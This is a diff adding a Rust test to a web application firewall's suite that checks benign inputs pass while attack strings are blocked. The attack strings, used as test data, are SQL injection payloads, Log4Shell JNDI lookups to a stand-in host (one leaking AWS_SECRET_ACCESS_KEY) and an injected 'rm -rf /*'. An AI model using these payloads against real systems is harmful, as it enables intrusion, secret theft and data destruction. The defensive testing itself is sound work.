@@ -6289,3 +6289,89 @@ fn holdout86_to_88_classes_pass_and_their_attacks_still_score() {
         }
     }
 }
+
+#[test]
+fn holdout89_to_91_classes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
+
+    // The catalogue's column names are ordinary columns' names too (4231): a venue's seating plan
+    // in CSV, a booking's `table_name` key, a performance-schema row's `SCHEMA_NAME`. As the
+    // whole value, in a query, or as the names no application shares, they still count.
+    let plan = "table,table_name,guest,dietary\n1,Top table,Chidi Okonkwo,\n2,Lagos,Adaeze Okonkwo,no pork\n";
+    let upload = format!(
+        "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"table_plan.csv\"\r\nContent-Type: text/csv\r\n\r\n{plan}\r\n--b--\r\n"
+    );
+    let o = post("/api/couple-portal/uploads", "multipart/form-data; boundary=b", &upload, &waf);
+    assert!(!o.blocked && rule(&o, 4231).is_none(), "{o:?}");
+    for body in
+        [r#"{"table_name": "Window 4", "covers": 2}"#, r#"{"rows": [{"SCHEMA_NAME": "shop", "COUNT_STAR": 42}]}"#]
+    {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked && rule(&o, 4231).is_none(), "{body}: {o:?}");
+    }
+    for q in [
+        "schema_name",
+        "1' union select table_name from information_schema.tables--",
+        "x' and 1=(select count(*) from information_schema.columns where table_name='users')--",
+        "1 and extractvalue(1,concat(0x7e,(select group_concat(column_name) from x)))",
+        "tempdb",
+        "1;use msdb--",
+    ] {
+        for o in as_field_and_query(&waf, q) {
+            assert!(o.blocked && rule(&o, 4231) == Some(5), "{q}: {o:?}");
+        }
+    }
+    let o = post("/post", "application/x-www-form-urlencoded", "SCHEMA_NAME", &waf);
+    assert!(o.blocked && rule(&o, 4231) == Some(5), "{o:?}");
+
+    // A plain `${env:NAME}` closed after its name, inside a longer value, is a configuration's
+    // variable (VS Code, the OpenTelemetry Collector, Serilog), no Log4j lookup that reaches
+    // anything (4400). A default, a nested lookup, `jndi`, or the lookup as the whole value (the
+    // probe) still counts.
+    for t in [
+        "exporters:\n  otlphttp:\n    headers:\n      Authorization: \"Bearer ${env:TRACEWELL_API_KEY}\"\n",
+        r#"{"terminal.integrated.env.linux": {"PATH": "${env:HOME}/.local/bin:${env:PATH}"}}"#,
+        "-Dlog.dir=${sys:user.home}/logs",
+    ] {
+        for o in as_field_and_query(&waf, t) {
+            assert!(rule(&o, 4400).is_none(), "{t}: {o:?}");
+        }
+    }
+    for q in [
+        "${${env:foo:-j}ndi:ldap://198.51.100.1/a}",
+        "$${env:x:-${env:y:-$}{jndi:ldap://evil.example/a}",
+        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
+        "${env:AWS_SECRET_ACCESS_KEY",
+        "${env:AWS_SECRET_ACCESS_KEY}",
+        " ${sys:user.name} ",
+        "${lower:j}${lower:n}di",
+    ] {
+        for o in as_field_and_query(&waf, q) {
+            assert!(o.blocked && rule(&o, 4400) == Some(5), "{q}: {o:?}");
+        }
+    }
+
+    // A scraper's selectors: an HTML element's own pseudo-element (`h1::text`) and one after a
+    // descendant combinator (`div[role="main"] ::text`) are no PostgreSQL casts (4212).
+    let crawl = "extract:\n  title: 'h1::text'\n  price: 'td::text'\n  body: 'div[role=\"main\"] ::text'\n";
+    for o in as_field_and_query(&waf, crawl) {
+        assert!(!o.blocked && rule(&o, 4212).is_none(), "{o:?}");
+    }
+    for q in ["password::text", "x' or name::text = 'a'--", "h1::text' or '1'='1"] {
+        for o in as_field_and_query(&waf, q) {
+            assert!(o.blocked, "{q}: {o:?}");
+        }
+    }
+
+    // A z/OS job's JCL: its `//*` comment lines and the `/*` that ends in-stream data are no
+    // root globs (3205 weak). A `/*` inside a line of it still counts.
+    let jcl = "//PAYRPT   JOB (ACCT),'J SMITH',CLASS=A,MSGCLASS=X\n//*-------------------------\n//* STEP010: SORT BY DEPT\n//*-------------------------\n//STEP010  EXEC PGM=SORT\n//SYSOUT   DD SYSOUT=*\n//SYSIN    DD *\n  SORT FIELDS=(1,4,CH,A)\n/*\n";
+    let o = post("/zosmf/restjobs/jobs", "text/plain", jcl, &waf);
+    assert!(!o.blocked && rule(&o, 3205) == Some(3), "{o:?}");
+    let bad = jcl.replace("  SORT FIELDS=(1,4,CH,A)", "  rm -rf /* ; SORT");
+    let o = post("/zosmf/restjobs/jobs", "text/plain", &bad, &waf);
+    assert!(o.blocked && rule(&o, 3205) == Some(5), "{o:?}");
+    let o = post("/notes", "text/plain", "//* STEP010\nrm -rf /*\n", &waf);
+    assert!(o.blocked, "{o:?}");
+}
